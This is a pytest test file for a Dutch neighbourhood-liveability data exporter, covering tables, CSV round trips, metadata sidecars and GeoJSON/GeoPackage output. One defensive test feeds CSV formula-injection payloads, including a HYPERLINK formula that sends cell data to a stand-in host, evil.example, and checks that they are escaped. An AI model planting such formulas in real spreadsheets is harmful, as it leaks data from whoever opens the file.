"""Export: table, CSV round trips, formula injection, metadata sidecar, GeoJSON, GeoPackage, export_files."""

from __future__ import annotations

import csv
import datetime as dt
import functools
import hashlib
import io
import json

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest

import geo
from geo.export import (
    FORMULA_PREFIXES,
    LONG_COLUMNS,
    ExportOptions,
    export_files,
    export_metadata,
    export_table,
    file_names,
    geo_frame,
    metadata_json,
    metadata_text,
    to_csv_bytes,
    to_geojson_bytes,
    to_gpkg_bytes,
)
from geo.export import pipeline as export_pipeline
from geo.selection import Filter, Selection
from tests.conftest import ROOT, SOURCES

TEXT_COLUMNS = [
    "code",
    "name",
    "level",
    "gemeente_code",
    "gemeente_name",
    "city_reference_method",
    "derived",
    "excluded_reason",
]
DAY = dt.date(2025, 3, 14)


@pytest.fixture(scope="module")
def selection(dataset: geo.Dataset) -> Selection:
    """Real areas of two levels: wijken of five gemeenten (one with commas in its
    name, one with excluded wijken, one with 2024 rows), an Amsterdam wijk with its buurten and
    an unscored wijk."""
    return (
        Selection()
        .add_gemeente(dataset, "GM0014")
        .add_gemeente(dataset, "GM0820")
        .add_gemeente(dataset, "GM0225")
        .add_gemeente(dataset, "GM0344")
        .add_gemeente(dataset, "GM0080")
        .add_wijk(dataset, "WK0363AA")
        .add_codes(dataset, ["WK036399"])
    )


@pytest.fixture(scope="module")
def long(dataset: geo.Dataset, selection: Selection) -> pd.DataFrame:
    return export_table(dataset, selection)


def _read(data: bytes, *, dutch: bool) -> pd.DataFrame:
    return pd.read_csv(
        io.BytesIO(data),
        sep=";" if dutch else ",",
        decimal="," if dutch else ".",
        encoding="utf-8-sig",
        dtype={c: "str" for c in TEXT_COLUMNS},
        keep_default_na=False,
        na_values=[""],
    )


def _expected(ds: geo.Dataset, codes: list[str], years: list[int], measure: str) -> np.ndarray:
    """The dataset's own value per (code, year), in table order, through its public lookup."""
    return np.array(
        [np.nan if (v := ds.value(c, y, measure)) is None else v for c in codes for y in years], dtype="float64"
    )


# -- the table -----------------------------------------------------------------------------------
def test_selection_is_real_and_large_enough(dataset, selection, long):
    assert len(selection) >= 50
    assert {dataset.level(c) for c in selection} == {"wijk", "buurt"}
    assert list(long.columns) == list(LONG_COLUMNS)
    years = dataset.years()
    assert len(long) == len(selection) * len(years)  # one row per area and year
    assert list(long["code"]) == [c for c in selection.codes for _ in years]


def test_table_values_are_the_datasets(dataset, selection, long):
    codes, years = list(selection.codes), dataset.years()
    for m in geo.MEASURES:
        assert np.array_equal(long[m].to_numpy(), _expected(dataset, codes, years, m), equal_nan=True), m
    assert long["lbm"].notna().sum() > 400
    first = long.iloc[0]
    assert first["name"] == dataset.name(first["code"])
    assert first["gemeente_name"] == "Groningen"


def test_references_gap_and_exclusion(dataset, long):
    for row in long.sample(80, random_state=1).itertuples():
        ref = dataset.city_reference(row.code, row.year, "lbm")
        assert (ref.value is None and np.isnan(row.city_reference)) or row.city_reference == ref.value
        if ref.value is not None:
            assert row.city_reference_method == ref.method
    assert np.array_equal(long["gap_to_city"], long["lbm"] - long["city_reference"], equal_nan=True)
    assert (long["national_reference"] == dataset.national_reference("lbm").value).all()
    per_code = long.groupby("code", sort=False)["excluded_reason"].first()
    for code, reason in per_code.items():
        assert reason == (dataset.is_excluded(code) or "")
    excluded = per_code[per_code != ""]
    assert len(excluded) >= 1  # Druten has wijken whose scores name other areas
    assert long.loc[long["code"].isin(excluded.index), "lbm"].isna().all()
    assert long.loc[long["code"].isin(excluded.index), "excluded"].all()


def test_years_subset_and_default(dataset, selection):
    t = export_table(dataset, selection, years=[2022, 2012])
    assert sorted(set(t["year"])) == [2012, 2022]
    groningen = Selection().add_gemeente(dataset, "GM0014")
    assert sorted(set(export_table(dataset, groningen)["year"])) == dataset.years("lbm", code="WK001400")
    unscored = Selection(("WK036399",))
    assert len(export_table(dataset, unscored)) == len(dataset.years())  # no score at all: every year, empty


def test_wide_layout(dataset, selection):
    wide = export_table(dataset, selection, layout="wide")
    assert list(wide["code"]) == list(selection.codes)
    assert "fys_2012" not in wide.columns and "fys_2014" in wide.columns  # dimensions only where published
    assert "lbm_2002" in wide.columns and "gap_to_city_2022" in wide.columns
    expected = dataset.values(list(selection.codes), 2022, "lbm").to_numpy()
    assert np.array_equal(wide["lbm_2022"].to_numpy(), expected, equal_nan=True)


@pytest.mark.parametrize(
    ("kwargs", "match"),
    [
        ({"layout": "tall"}, "`layout` was 'tall'"),
        ({"years": [2021]}, r"`years` was \[2021\]"),
        ({"years": []}, r"`years` was \[\]"),
    ],
    ids=["layout", "unknown-year", "no-years"],
)
def test_table_errors(dataset, selection, kwargs, match):
    with pytest.raises(ValueError, match=match):
        export_table(dataset, selection, **kwargs)


def test_unknown_code_in_selection(dataset):
    with pytest.raises(ValueError, match="not areas of the dataset: WK999901"):
        export_table(dataset, Selection(("WK0363AA", "WK999901")))


# -- empty selection -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "call",
    [
        lambda ds: export_table(ds, Selection()),
        lambda ds: export_table(ds, Selection(), layout="wide"),
        lambda ds: geo_frame(ds, Selection()),
        lambda ds: export_metadata(ds, Selection()),
    ],
    ids=["long", "wide", "geo", "metadata"],
)
def test_empty_selection_is_a_clear_error(dataset, call):
    with pytest.raises(ValueError, match="`selection` is empty: nothing to export"):
        call(dataset)


def test_empty_filter_result_is_a_clear_error(dataset):
    nothing = Selection().add_filter(dataset, Filter("afw", "below", -9.0, year=2022))
    assert len(nothing) == 0 and "0 gebieden" in nothing.describe("nl")
    with pytest.raises(ValueError, match="loosen the filter"):
        export_table(dataset, nothing)


def test_empty_frames_are_never_written(long):
    with pytest.raises(ValueError, match="`frame` has no rows"):
        to_csv_bytes(long.iloc[0:0])
    empty = gpd.GeoDataFrame(long.iloc[0:0], geometry=[], crs="EPSG:28992")
    with pytest.raises(ValueError, match="`frame` has no rows"):
        to_geojson_bytes(empty)
    with pytest.raises(ValueError, match="`frame` has no rows"):
        to_gpkg_bytes(empty)


# -- CSV -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("dutch", [False, True], ids=["plain", "dutch-excel"])
def test_csv_round_trip_is_exact(dataset, selection, long, dutch):
    data = to_csv_bytes(long, dutch=dutch, bom=dutch)
    assert data.startswith(b"\xef\xbb\xbf") == dutch
    header = data.decode("utf-8-sig").split("\r\n", 1)[0]
    assert header == (";" if dutch else ",").join(LONG_COLUMNS)
    back = _read(data, dutch=dutch)
    assert len(back) == len(long)
    codes, years = list(selection.codes), dataset.years()
    for m in (*geo.MEASURES, "city_reference", "national_reference", "gap_to_city"):
        assert back[m].dtype == "float64", m
        want = _expected(dataset, codes, years, m) if m in geo.MEASURES else long[m].to_numpy()
        assert np.array_equal(back[m].to_numpy(), want, equal_nan=True), m
    for c in ("code", "name", "gemeente_name", "excluded_reason"):
        assert list(back[c].fillna("")) == list(long[c].fillna("")), c
    assert list(back["year"]) == list(long["year"])
    assert back["excluded"].tolist() == long["excluded"].tolist()
    assert "Nuenen, Gerwen en Nederwetten" in set(back["gemeente_name"])


def test_dutch_csv_uses_semicolon_and_decimal_comma(long):
    text = to_csv_bytes(long, dutch=True).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    lbm = rows[0].index("lbm")
    values = [r[lbm] for r in rows[1:] if r[lbm]]
    assert values and all("," in v and "." not in v for v in values)
    assert '"Nuenen, Gerwen en Nederwetten"' not in text  # no quoting needed with ;
    plain = to_csv_bytes(long).decode("utf-8")
    assert '"Nuenen, Gerwen en Nederwetten"' in plain


def test_rounding(long):
    back = _read(to_csv_bytes(long, decimals=3), dutch=False)
    assert np.array_equal(back["lbm"].to_numpy(), long["lbm"].round(3).to_numpy(), equal_nan=True)
    assert not np.array_equal(back["lbm"].to_numpy(), long["lbm"].to_numpy(), equal_nan=True)
    with pytest.raises(ValueError, match="`decimals` was -1"):
        to_csv_bytes(long, decimals=-1)


@pytest.mark.parametrize("dutch", [False, True], ids=["plain", "dutch"])
def test_rounding_writes_exactly_that_many_decimals_and_no_negative_zero(dutch):
    """``--round 0`` wrote 4.0 and -0.0 (a small negative value rounded to zero)."""
    frame = pd.DataFrame({"a": [4.04], "b": [-0.28], "c": [-2.6], "d": [0.333], "e": [np.nan], "f": [-0.001]})
    frame["n"] = pd.array([1], dtype="Int64")
    by_hand = {0: "4,0,-3,0,,0,1", 2: "4.04,-0.28,-2.60,0.33,,0.00,1"}
    for decimals, line in by_hand.items():
        if dutch:
            line = line.replace(",", ";").replace(".", ",")
        assert to_csv_bytes(frame, decimals=decimals, dutch=dutch).decode().splitlines()[1] == line


@pytest.mark.parametrize("dutch", [False, True], ids=["plain", "dutch-excel"])
def test_formula_injection_is_neutralised(long, dutch):
    frame = long.head(12).copy()
    evil = [
        '=HYPERLINK("https://evil.example/?"&A1,"klik")',
        "+31 20 555",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    frame.loc[frame.index[: len(evil)], "name"] = evil
    assert (frame["afw"] < 0).any()
    data = to_csv_bytes(frame, dutch=dutch)
    sep = ";" if dutch else ","
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=sep))
    header, body = rows[0], rows[1:]
    for r in body:
        for col in TEXT_COLUMNS:
            assert not r[header.index(col)].startswith(FORMULA_PREFIXES), (col, r[header.index(col)])
    back = _read(data, dutch=dutch)
    assert list(back["name"][: len(evil)]) == ["'" + e for e in evil]  # inert, and nothing lost
    # numbers are never mangled: a negative afw is written as a plain negative number
    afw = header.index("afw")
    negatives = [r[afw] for r in body if r[afw].startswith("-")]
    assert negatives and all(not v.startswith("'") for v in negatives)
    assert back["afw"].dtype == "float64"
    assert np.array_equal(back["afw"].to_numpy(), frame["afw"].to_numpy(), equal_nan=True)


# -- metadata ---------------------------------------------------------------------------------------
SOURCE_INFO = json.loads((SOURCES / "sources.json").read_text(encoding="utf-8"))["files"]
UTRECHT_MIX = ["WK034403", "BU03440832", "WK034406"]  # Overvecht, Kanaleneiland-Noord (a buurt), Binnenstad


@functools.cache
def _codes_in(file: str) -> frozenset[str]:
    """The area codes a GeoJSON source file holds, read with the json module."""
    features = json.loads((SOURCES / file).read_text(encoding="utf-8"))["features"]
    keys = ("code", "bu_code", "wijkcode", "gemeentecode")
    return frozenset(next(f["properties"][k] for k in keys if k in f["properties"]) for f in features)


def _outline_file(code: str) -> str:
    """The source file of an area's outline, by the rule in data/sources/README.md: a buurt of
    Amsterdam from the City's file (it wins over the WFS export), any other buurt from the WFS
    file of its province, a wijk from the CBS wijken file."""
    if code.startswith("WK"):
        assert code in _codes_in("cbs/wijken_2024.geojson")
        return "cbs/wijken_2024.geojson"
    if code in _codes_in("amsterdam/buurten.geojson"):
        return "amsterdam/buurten.geojson"
    (wfs,) = (
        f
        for f in SOURCE_INFO
        if f.startswith("leefbaarometer/wfs-meting-2024/buurten/") and f.endswith(".geojson")
        if code in _codes_in(f)
    )
    return wfs


def _expected_sources(ds: geo.Dataset, codes: list[str], years: list[int]) -> set[str]:
    rows = ds.scores[ds.scores["code"].isin(codes) & ds.scores["year"].isin(years)]
    return set(rows["source"]) | {_outline_file(c) for c in codes}


def test_sidecar_names_every_source_and_licence(dataset, selection):
    meta = export_metadata(dataset, selection, export_date=DAY)
    files = {s["file"] for s in meta["sources"]}
    assert files == _expected_sources(dataset, list(selection.codes), dataset.years())
    by_file = {s["file"]: s for s in dataset.manifest["sources"]}
    assert set(meta["licences"]) == {by_file[f]["licence"] for f in files} == {"CC BY 4.0", "CC0 1.0"}
    for f in files:
        assert by_file[f]["attribution"] in meta["attribution"]
        assert next(s for s in meta["sources"] if s["file"] == f)["licence"] == by_file[f]["licence"]
    exported_rows = sum(s.get("rows_exported", 0) for s in meta["sources"])
    assert exported_rows == meta["counts"]["score_rows"] == int(export_table(dataset, selection)["lbm"].notna().sum())
    assert meta["export_date"] == "2025-03-14"
    assert meta["selection"]["criteria"]["nl"] == selection.describe("nl")
    assert meta["selection"]["n_areas"] == len(selection)
    assert meta["counts"]["excluded_areas"] >= 1


def test_sidecar_lists_only_the_sources_of_the_rows_exported(dataset):
    groningen = Selection().add_gemeente(dataset, "GM0014")
    meta = export_metadata(dataset, groningen, years=[2022])
    assert {s["file"] for s in meta["sources"]} == {
        "cbs/wijken_2024.geojson",
        "leefbaarometer/Leefbaarometer-scores wijken 2002-2022.csv",
    }
    utrecht_2024 = export_metadata(dataset, Selection().add_gemeente(dataset, "GM0344"), years=[2024])
    assert {s["file"] for s in utrecht_2024["sources"]} == {
        "cbs/wijken_2024.geojson",
        "leefbaarometer/meting-2024-wijken-subset.csv",
    }


def test_sidecar_credits_the_boundaries_per_source_file_of_the_exported_areas(dataset):
    """Two Utrecht wijken and a Utrecht buurt: the buurt's outline is the WFS file's (CBS / Kadaster
    geometry); the City of Amsterdam drew none of them and is not credited."""
    meta = export_metadata(dataset, Selection().add_codes(dataset, UTRECHT_MIX), export_date=DAY)
    wfs = "leefbaarometer/wfs-meting-2024/buurten/26.geojson"
    assert {_outline_file(c) for c in UTRECHT_MIX} == {"cbs/wijken_2024.geojson", wfs}  # the premise
    outlines = {s["file"]: s for s in meta["sources"] if "boundaries_exported" in s}
    assert {f: s["boundaries_exported"] for f, s in outlines.items()} == {"cbs/wijken_2024.geojson": 2, wfs: 1}
    assert outlines[wfs]["boundary_attribution"] == SOURCE_INFO[wfs]["geometry_attribution"] == "CBS / Kadaster"
    assert outlines[wfs]["rows_exported"] == 1  # the buurt's 2024 score comes from the same file
    assert "amsterdam/buurten.geojson" not in {s["file"] for s in meta["sources"]}
    assert meta["attribution"] == "CBS / Kadaster; Leefbaarometer 3.0, Ministerie van BZK"
    for lang in ("nl", "en"):
        assert "Amsterdam" not in metadata_text(meta, lang=lang)


def test_sidecar_credits_amsterdam_for_its_own_buurten(dataset):
    meta = export_metadata(dataset, Selection().add_codes(dataset, ["BU0363AA01", "BU03440832"]), years=[2024])
    outlines = {s["file"]: s["boundaries_exported"] for s in meta["sources"] if "boundaries_exported" in s}
    assert outlines == {"amsterdam/buurten.geojson": 1, "leefbaarometer/wfs-meting-2024/buurten/26.geojson": 1}
    assert "Gemeente Amsterdam" in meta["attribution"]


def test_sidecar_build_identity_and_date(dataset, selection):
    meta = export_metadata(dataset, selection)
    manifest_file = ROOT / "data" / "manifest.json"
    assert meta["dataset"]["manifest_sha256"] == hashlib.sha256(manifest_file.read_bytes()).hexdigest()
    assert "built" not in dataset.manifest and meta["dataset"]["build_date"] is None  # not invented
    assert meta["export_date"] == dt.datetime.now(dt.UTC).date().isoformat()
    assert json.loads(metadata_json(meta)) == meta
    text = metadata_text(meta, lang="en", prefix="# ")
    assert all(line.startswith("# ") for line in text.splitlines())
    assert "CC BY 4.0" in text and "CC0 1.0" in text and "Build date: not recorded" in text
    assert selection.describe("en") in text
    assert "Naamsvermelding" in metadata_text(meta)


# -- geo files -----------------------------------------------------------------------------------
def test_geopackage_opens_in_rd_new_with_valid_geometries(dataset, selection, tmp_path):
    meta = export_metadata(dataset, selection, file_format="gpkg", layout="wide", export_date=DAY)
    frame = geo_frame(dataset, selection)
    data = to_gpkg_bytes(frame, metadata=meta)
    assert data == to_gpkg_bytes(frame, metadata=meta)  # reproducible
    path = tmp_path / "selectie.gpkg"
    path.write_bytes(data)
    info = pyogrio.read_info(path)
    assert info["crs"] == "EPSG:28992"
    assert info["features"] == len(selection)
    assert json.loads(info["layer_metadata"]["export_metadata"]) == meta
    back = pyogrio.read_dataframe(path)
    assert back.crs.to_epsg() == 28992
    assert back.geometry.is_valid.all() and not back.geometry.is_empty.any()
    assert list(back["code"]) == list(selection.codes)
    want = dataset.values(list(selection.codes), 2022, "lbm").to_numpy()
    assert np.array_equal(back["lbm_2022"].to_numpy(), want, equal_nan=True)
    areas = dataset.areas.loc[list(selection.codes)].geometry.area.to_numpy()
    assert np.allclose(back.geometry.area.to_numpy(), areas, rtol=1e-9)


def test_geojson_is_wgs84_keyed_by_code(dataset, selection):
    frame = geo_frame(dataset, selection, years=[2020, 2022])
    data = to_geojson_bytes(frame, metadata={"note": "x"})
    doc = json.loads(data)
    assert doc["metadata"] == {"note": "x"}
    assert [f["id"] for f in doc["features"]] == list(selection.codes)
    for f in doc["features"]:
        v = dataset.value(f["id"], 2022, "lbm")
        assert f["properties"]["lbm_2022"] == v  # exact, or null when missing
    back = gpd.read_file(io.BytesIO(data))
    assert back.crs.to_epsg() == 4326
    minx, miny, maxx, maxy = back.total_bounds
    assert 3 < minx < maxx < 8 and 50 < miny < maxy < 54
    rd = back.to_crs(28992).geometry.area.to_numpy()
    assert np.allclose(rd, dataset.areas.loc[list(selection.codes)].geometry.area.to_numpy(), rtol=1e-3)


# -- one export: export_files ------------------------------------------------------------------
def test_export_files_holds_the_files_of_each_building_block(dataset, selection):
    opts = ExportOptions(layout="wide", dutch=True, bom=True, decimals=3, years=(2012, 2022), export_date=DAY)
    files = export_files(dataset, selection, opts)
    wide = export_table(dataset, selection, years=[2012, 2022], layout="wide")
    assert files.csv == to_csv_bytes(wide, dutch=True, bom=True, decimals=3)
    assert files.rows == len(wide) == len(selection) and files.n_areas == len(selection)
    frame = geo_frame(dataset, selection, years=[2012, 2022])
    geo_meta = export_metadata(
        dataset, selection, years=[2012, 2022], layout="wide", file_format="gpkg", export_date=DAY
    )
    assert files.gpkg == to_gpkg_bytes(frame, metadata=geo_meta)
    assert json.loads(files.geojson)["metadata"]["format"] == "geojson"
    csv_meta = json.loads(files.metadata_json)
    assert csv_meta["format"] == "csv" and csv_meta["layout"] == "wide"
    assert csv_meta["csv"] == {
        "separator": ";",
        "decimal": ",",
        "encoding": "UTF-8",
        "byte_order_mark": True,
        "decimals": 3,
    }
    assert files.sidecar("csv") == files.metadata_json
    assert "afgerond op 3" in files.metadata_text and "indeling breed" in files.metadata_text


def test_export_files_checks_the_selection_and_builds_the_table_once(dataset, selection, monkeypatch):
    calls = {"_checked_selection": 0, "_long": 0}
    for name in calls:  # patched where export_files looks them up
        original = getattr(export_pipeline, name)

        def counted(*args, _name=name, _original=original, **kwargs):
            calls[_name] += 1
            return _original(*args, **kwargs)

        monkeypatch.setattr(export_pipeline, name, counted)
    export_files(dataset, selection, ExportOptions(layout="wide"))
    assert calls == {"_checked_selection": 1, "_long": 1}


def test_only_the_formats_asked_for_are_built(dataset):
    files = export_files(dataset, Selection(("WK0363AA",)), ExportOptions(formats=("geojson",)))
    assert files.csv is None and files.gpkg is None and files.geojson is not None
    assert json.loads(files.metadata_json)["format"] == "geojson"
    with pytest.raises(ValueError, match="`csv` was not built"):
        files.data("csv")


def test_every_csv_variant_has_its_own_name():
    names = {
        file_names(ExportOptions(layout=layout, dutch=dutch, bom=bom, lang=lang, decimals=d))["csv"]
        for layout in ("long", "wide")
        for dutch in (False, True)
        for bom in (False, True)
        for lang in ("nl", "en")
        for d in (None, 3)
    }
    assert len(names) == 2 * 2 * 2 * 2 * 2
    assert file_names(ExportOptions(dutch=True, bom=True))["csv"] == "leefbaarheid-selectie-lang-nl-excel.csv"
    assert file_names(ExportOptions(layout="wide", lang="en"))["csv"] == "leefbaarheid-selectie-wide-en-plain.csv"


@pytest.mark.parametrize(
    ("kwargs", "match"),
    [
        ({"layout": "tall"}, "`layout` was 'tall'"),
        ({"decimals": 16}, "`decimals` was 16 but is expected to be a whole number from 0 to 15"),
        ({"decimals": -1}, "`decimals` was -1"),
        ({"lang": "de"}, "`lang` was 'de'"),
        ({"formats": ("csv", "shp")}, "`file_format` was 'shp'"),
        ({"formats": ()}, "`formats` was ()"),
        ({"years": [2022]}, r"`years` was \[2022\] but is expected to be a tuple"),
    ],
    ids=["layout", "decimals-16", "decimals-neg", "lang", "format", "no-format", "years-list"],
)
def test_export_options_are_checked(kwargs, match):
    with pytest.raises(ValueError, match=match):
        ExportOptions(**kwargs)


@pytest.mark.parametrize("decimals", [16, 308, 400])
def test_rounding_beyond_15_decimals_is_refused(long, decimals):
    # 400 used to write every number as an empty cell and 308 as inf
    with pytest.raises(ValueError, match=f"`decimals` was {decimals}"):
        to_csv_bytes(long, decimals=decimals)
    assert b"inf" not in to_csv_bytes(long, decimals=15)


def test_derived_values_are_copied_from_the_manifest(dataset):
    sel = Selection(("BU00140000",))  # a Groningen buurt: its 2024 lbm is derived (WFS, afw + reference)
    derived = [
        {
            "column": "lbm",
            "rows": "2024 WFS",
            "how": {"nl": "afw + landelijke referentie", "en": "afw + national reference"},
        }
    ]
    marked = geo.Dataset(
        dataset.areas, dataset.scores, excluded=dataset.excluded, manifest={**dataset.manifest, "derived": derived}
    )
    files = export_files(marked, sel, ExportOptions(formats=("csv", "geojson")))
    assert json.loads(files.metadata_json)["derived"] == derived
    assert json.loads(files.geojson)["metadata"]["derived"] == derived
    assert "afw + landelijke referentie" in files.metadata_text
    plain = {k: v for k, v in dataset.manifest.items() if k != "derived"}
    bare = geo.Dataset(dataset.areas, dataset.scores, excluded=dataset.excluded, manifest=plain)
    assert "derived" not in json.loads(export_files(bare, sel, ExportOptions(formats=("csv",))).metadata_json)
    # an export without derived rows (Amsterdam's published wijk scores) has no derived section
    published = export_files(marked, Selection(("WK0363AA",)), ExportOptions(formats=("csv",)))
    assert json.loads(published.metadata_json)["counts"]["derived_rows"] == 0
    assert "derived" not in json.loads(published.metadata_json)
    assert "afw + landelijke referentie" not in published.metadata_text


def test_dutch_metadata_text_says_the_derived_lbm_in_dutch(dataset):
    """The embedded manifest describes the derived lbm in English; the Dutch text says it in Dutch,
    with the national reference 4.102264851143685 (data/sources/README.md) and a decimal comma."""
    meta = export_metadata(dataset, Selection().add_codes(dataset, UTRECHT_MIX), export_date=DAY)
    nl = metadata_text(meta, lang="nl")
    derived = nl.split("Afgeleide waarden:\n", 1)[1]
    assert "lbm = afw + landelijk referentieniveau (4,102264851143685)" in derived
    for english in ("formula", "national reference", "why:", "publishes", "flag:", "median of"):
        assert english not in derived
    en = metadata_text(meta, lang="en")
    assert "formula: lbm = afw + national reference" in en and "why: the Leefbaarometer WFS publishes" in en
    assert "population-weighted of unweighted" not in json.dumps(meta["columns"], ensure_ascii=False)


def test_metadata_text_names_its_sources_in_one_language(dataset):
    """Amsterdam buurten, a Rotterdam wijk and a Utrecht buurt: every source line in the reader's language.

    Titles and licences come from data/sources/sources.json (``title`` and ``licence`` Dutch,
    ``title_en`` and ``licence_en`` English); the credited names from the attribution."""
    codes = ["BU0363AA01", "WK059901", "BU03440832"]
    meta = export_metadata(dataset, Selection().add_codes(dataset, codes), export_date=DAY)
    entries = json.loads((ROOT / "data" / "sources" / "sources.json").read_text(encoding="utf-8"))["files"]
    exported = [s["file"] for s in meta["sources"]]
    wfs = "leefbaarometer/wfs-meting-2024/buurten/26.geojson"
    assert {"amsterdam/buurten.geojson", "cbs/wijken_2024.geojson", wfs} <= set(exported)  # the premise
    leaks = {"nl": (" of ", "with", "simplified", "measurement", "City of", "geometry", "and classes"),
             "en": ("vereenvoudigd", " van ", "(deel)", "Gemeente Amsterdam", "geometrie", "en klassen")}  # fmt: skip
    for lang, head, end in (("nl", "Bronnen:", "Licenties:"), ("en", "Sources:", "Licences:")):
        text = metadata_text(meta, lang=lang)
        block = text.split(f"\n{head}\n", 1)[1].split(f"\n{end}", 1)[0].splitlines()
        assert len(block) == len(exported)
        for file, line in zip(exported, block, strict=True):
            title = entries[file]["title"] if lang == "nl" else entries[file]["title_en"]
            licence = (
                entries[file]["licence"] if lang == "nl" else entries[file].get("licence_en", entries[file]["licence"])
            )
            assert line.startswith(f"  - {title} (") and line.endswith(f"; {licence}; {file}"), line
            shown = line.removesuffix(f"; {file}")
            assert not [w for w in leaks[lang] if w in shown], (lang, line)
        licences = text.split(f"\n{end} ", 1)[1].split("\n", 1)[0]
        assert ("geometrie" in licences) == (lang == "nl") and ("geometry" in licences) == (lang == "en")
    assert "(City of Amsterdam)" in metadata_text(meta, lang="en")
    assert "Ministry of the Interior" in metadata_text(meta, lang="en").split("Attribution: ")[1]
    assert "Ministerie van BZK" in metadata_text(meta, lang="nl").split("Naamsvermelding: ")[1]


def test_rows_with_a_derived_lbm_are_flagged(dataset, tmp_path):
    # The 2024 WFS publishes afw but no lbm for these Groningen buurten; the build derives lbm.
    wfs = json.loads((ROOT / "data/sources/leefbaarometer/wfs-meting-2024/buurten/20.geojson").read_bytes())
    wfs_codes = {f["properties"]["code"] for f in wfs["features"]}
    sel = Selection().add_wijk(dataset, "WK001400")
    buurten = [c for c in sel.codes if c.startswith("BU")]
    assert buurten and set(buurten) <= wfs_codes
    files = export_files(dataset, sel, ExportOptions(layout="wide", formats=("csv", "geojson")))
    long = export_table(dataset, sel)
    flagged = long.loc[long["derived"] != "", ["code", "year", "derived"]]
    assert set(flagged["code"]) == set(buurten) and set(flagged["year"]) == {2024}
    assert (flagged["derived"] == "lbm").all()
    assert (long.loc[long["code"] == "WK001400", "derived"] == "").all()
    meta = json.loads(files.metadata_json)
    assert meta["counts"]["derived_rows"] == len(buurten)
    assert meta["derived"] == dataset.manifest["derived"]  # copied, not invented
    wide = _read(files.csv, dutch=False)
    assert [c for c in wide.columns if c.startswith("derived_")] == ["derived_2024"]
    props = {f["id"]: f["properties"] for f in json.loads(files.geojson)["features"]}
    assert props[buurten[0]]["derived_2024"] == "lbm" and props["WK001400"]["derived_2024"] == ""


def test_geo_files_carry_the_rank_as_whole_numbers(dataset, tmp_path):
    # issue 9 by hand: WK0363AA in 2022 is 47th of 110 Amsterdam wijken on onv, 18th on lbm
    sel = Selection().add_codes(dataset, ["WK0363AA"])
    files = export_files(dataset, sel, ExportOptions(formats=("geojson", "gpkg"), export_date=dt.date(2025, 3, 14)))
    (feature,) = json.loads(files.data("geojson"))["features"]
    props = feature["properties"]
    assert (props["rank_onv_2022"], props["rank_of_onv_2022"]) == (47, 110)
    assert (props["rank_lbm_2022"], props["rank_of_lbm_2022"]) == (18, 110)
    assert "rank_fys_2016" not in props  # no dimensions published in 2016
    path = tmp_path / "sel.gpkg"
    path.write_bytes(files.data("gpkg"))
    info = pyogrio.read_info(path)
    dtypes = dict(zip(info["fields"], info["dtypes"], strict=True))
    assert dtypes["rank_onv_2022"] == "int64" and dtypes["rank_of_onv_2022"] == "int64"
    frame = pyogrio.read_dataframe(path)
    assert (frame.at[0, "rank_onv_2022"], frame.at[0, "rank_of_onv_2022"]) == (47, 110)
